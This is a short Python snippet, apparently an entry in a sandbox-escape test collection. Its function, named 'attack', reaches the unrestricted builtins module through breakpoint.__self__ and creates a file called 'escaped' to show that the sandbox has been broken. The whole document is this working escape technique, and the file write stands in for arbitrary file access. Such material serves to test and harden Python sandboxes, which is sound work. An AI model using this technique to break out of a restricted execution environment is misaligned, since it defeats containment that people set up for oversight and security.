"""Class: builtins. Source: own find. Escape: breakpoint imports a debugger, which evaluates."""


def attack(model, tokenizer, address):
    import builtins

    builtins.breakpoint.__self__.open("escaped", "w").close()
